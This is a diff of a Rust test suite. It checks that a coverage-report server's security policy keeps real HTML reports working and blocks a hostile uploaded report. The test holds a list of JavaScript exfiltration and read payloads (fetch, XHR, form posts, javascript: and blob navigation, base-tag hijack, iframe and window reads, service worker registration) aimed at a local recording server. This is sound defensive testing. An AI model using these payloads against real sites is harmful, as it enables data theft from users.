@@ -1,5 +1,5 @@
-//! Reports are untrusted pages: under the server's policy every tool's report works as it does without one, and a
-//! hostile one reaches nobody.
+//! Reports are untrusted pages. With the server's security policy, reports of every tool work as without it, and a hostile
+//! report can send and read nothing.
 
 use std::collections::BTreeSet;
 use std::path::{Path, PathBuf};
@@ -36,7 +36,7 @@ fn real_reports() -> Vec<(String, PathBuf)> {
     reports
 }
 
-/// Uploads a report, whatever its total, and gives its path.
+/// Uploads a report with any total; returns its path.
 fn upload(world: &World, report: &Path) -> String {
     let server = &world.server.url;
     let mut command = covered::covered(report, server, &world.github.url(), REPOSITORY, SHA);
@@ -46,7 +46,7 @@ fn upload(world: &World, report: &Path) -> String {
     link.strip_prefix(server.as_str()).unwrap().to_owned()
 }
 
-/// The same server without what keeps a page's scripts where they are.
+/// A proxy to the same server that removes the policy.
 fn without_policy(upstream: &str) -> Serving {
     let upstream = upstream.to_owned();
     Serving::start(move |request| {
@@ -71,7 +71,7 @@ fn texts(list: &Value) -> BTreeSet<&str> {
 }
 
 #[test]
-fn every_tools_report_works_under_the_policy() {
+fn reports_of_every_tool_work_with_the_security_policy() {
     if skip_without(&BROWSER) {
         return;
     }
@@ -90,7 +90,7 @@ fn every_tools_report_works_under_the_policy() {
     let mut did = BTreeSet::new();
     for report in seen["reports"].as_array().unwrap() {
         let name = report["name"].as_str().unwrap();
-        // What is not there is no loss.
+        // Ignores files that are missing without the policy, too.
         let missing = texts(&report["missing"]);
         let there = |problem: &&&str| !missing.iter().any(|path| problem.contains(path));
         let without = texts(&report["problemsWithout"]);
@@ -103,14 +103,14 @@ fn every_tools_report_works_under_the_policy() {
     }
     assert!(wrong.is_empty(), "{} of {} reports:\n{}", wrong.len(), reports.len(), wrong.join("\n"));
     assert_eq!(seen["reports"].as_array().unwrap().len(), reports.len());
-    // The steps were not all for nothing.
+    // Each step was possible in enough reports.
     for step in ["filter", "sort", "expand", "file"] {
         assert!(did.iter().filter(|(done, _)| *done == step).count() > reports.len() / 5, "{step}: {did:?}");
     }
 }
 
-/// A server elsewhere: it notes what it is asked for.
-fn elsewhere() -> (Serving, Arc<Mutex<BTreeSet<String>>>) {
+/// A foreign server that records the requested paths.
+fn foreign_server() -> (Serving, Arc<Mutex<BTreeSet<String>>>) {
     let seen = Arc::new(Mutex::new(BTreeSet::new()));
     let shared = seen.clone();
     let serving = Serving::start(move |request| {
@@ -122,7 +122,7 @@ fn elsewhere() -> (Serving, Arc<Mutex<BTreeSet<String>>>) {
     (serving, seen)
 }
 
-/// What a hostile report tries on one page, by the name that the server elsewhere would be asked for.
+/// Scripts of a hostile report on one page, by the path that they request from the foreign server.
 const TRIES: &[(&str, &str)] = &[
     ("fetch", "fetch(E + 'fetch', {mode: 'no-cors'})"),
     ("xhr", "const x = new XMLHttpRequest(); x.open('POST', E + 'xhr'); x.send('data')"),
@@ -152,32 +152,32 @@ const TRIES: &[(&str, &str)] = &[
     ("svg", "add('div', {innerHTML: `<svg><image href='${E}svg'/></svg>`})"),
 ];
 
-/// What takes the page away with it.
-const LEAVES: &[(&str, &str)] = &[
+/// Scripts that navigate away from the page.
+const NAVIGATIONS: &[(&str, &str)] = &[
     ("form", "add('form', {action: E + 'form', method: 'post'}).submit()"),
     ("blob-page", "location = blob(`<img src='${E}blob-page'>`, 'text/html')"),
     ("script-page", "location = `javascript:'<img src=${E}script-page>'`"),
     ("base", "add('base', {href: E}); add('form', {action: 'base'}).submit()"),
 ];
 
-/// What it tries to read of the server: other reports, and the badges that lead there.
+/// A script that tries to read badges and other reports of the server.
 const READS: &str = "
-    const told = (name) => (text) => text.includes('pc_cov') || text.includes('schemaVersion') ? read.push(name) : 0;
-    fetch('/badge/octo/app.json').then((answer) => answer.text()).then(told('badge')).catch(() => {});
-    fetch('/badge/redirect/octo/app/').then((answer) => answer.text()).then(told('redirect')).catch(() => {});
+    const check = (name) => (text) => text.includes('pc_cov') || text.includes('schemaVersion') ? read.push(name) : 0;
+    fetch('/badge/octo/app.json').then((answer) => answer.text()).then(check('badge')).catch(() => {});
+    fetch('/badge/redirect/octo/app/').then((answer) => answer.text()).then(check('redirect')).catch(() => {});
     const html = (frame) => frame.contentDocument.documentElement.outerHTML;
-    add('iframe', {src: '/badge/redirect/octo/app/', onload() { try { told('frame')(html(this)) } catch {} }});
+    add('iframe', {src: '/badge/redirect/octo/app/', onload() { try { check('frame')(html(this)) } catch {} }});
     add('button', {textContent: 'more', onclick() {
         const opened = open('/badge/redirect/octo/app/');
-        setTimeout(() => { try { told('window')(opened.document.documentElement.outerHTML) } catch {} }, 1000);
+        setTimeout(() => { try { check('window')(opened.document.documentElement.outerHTML) } catch {} }, 1000);
     }});
     navigator.serviceWorker.register('sw.js').then(() => read.push('service worker')).catch(() => {});";
 
-/// A report of such pages.
-fn hostile(folder: &Path, elsewhere: &str) {
+/// Writes a report with these scripts.
+fn write_hostile_report(folder: &Path, foreign: &str) {
     let start = format!(
         "<!DOCTYPE html><meta charset=utf-8><link rel=icon href=data:,><body><script>
-         const E = '{elsewhere}/'; window.read = [];
+         const E = '{foreign}/'; window.read = [];
          const add = (name, what) => document.body.appendChild(Object.assign(document.createElement(name), what));
          const blob = (text, type) => URL.createObjectURL(new Blob([text], {{type}}));"
     );
@@ -187,40 +187,40 @@ fn hostile(folder: &Path, elsewhere: &str) {
     };
     write("index.html", &all);
     write("reads.html", READS);
-    LEAVES.iter().for_each(|(name, script)| write(&format!("{name}.html"), script));
+    NAVIGATIONS.iter().for_each(|(name, script)| write(&format!("{name}.html"), script));
     std::fs::write(folder.join("sw.js"), "self.addEventListener('fetch', () => {})").unwrap();
 }
 
 #[test]
-fn a_hostile_report_reaches_nobody() {
+fn the_security_policy_blocks_a_hostile_report() {
     if skip_without(&BROWSER) {
         return;
     }
     let world = World::new(&setting("STORAGE_URL", "memory://"));
-    // What it would like to read.
+    // The hostile report tries to read this one.
     world.upload_small("87.5", SHA);
-    let (evil, seen) = elsewhere();
+    let (evil, seen) = foreign_server();
     let folder = world.folder.path().join("hostile");
     std::fs::create_dir(&folder).unwrap();
-    hostile(&folder, &evil.url());
+    write_hostile_report(&folder, &evil.url());
     let path = upload(&world, &folder);
     let plain = without_policy(&world.server.url);
-    let suffer = |server: &str| {
+    let attack = |server: &str| {
         let pages = ["", "reads.html"].map(ToOwned::to_owned).into_iter();
-        let pages = pages.chain(LEAVES.iter().map(|(name, _)| format!("{name}.html")));
+        let pages = pages.chain(NAVIGATIONS.iter().map(|(name, _)| format!("{name}.html")));
         let attacks: Vec<Value> =
             pages.map(|page| json!({"name": page, "url": format!("{server}{path}{page}")})).collect();
         let read = node::browse_reports(&json!({"reports": [], "attacks": attacks}))["attacks"][1]["read"].clone();
         let reached = std::mem::take(&mut *seen.lock().unwrap());
         (reached, texts(&read).into_iter().map(ToOwned::to_owned).collect::<BTreeSet<_>>())
     };
-    // Without a policy each of them works: else that it does not with one would say nothing.
-    let (reached, read) = suffer(&plain.url());
+    // Without the policy, each script must work; otherwise the test would prove nothing.
+    let (reached, read) = attack(&plain.url());
     let missing: Vec<&str> =
-        TRIES.iter().chain(LEAVES).map(|(name, _)| *name).filter(|name| !reached.contains(*name)).collect();
+        TRIES.iter().chain(NAVIGATIONS).map(|(name, _)| *name).filter(|name| !reached.contains(*name)).collect();
     assert_eq!(missing, [""; 0], "{reached:?}");
     let readable = ["badge", "frame", "redirect", "window"].map(ToOwned::to_owned);
     assert!(readable.iter().all(|name| read.contains(name)), "{read:?}");
 
-    assert_eq!(suffer(&world.server.url), Default::default());
+    assert_eq!(attack(&world.server.url), Default::default());
 }
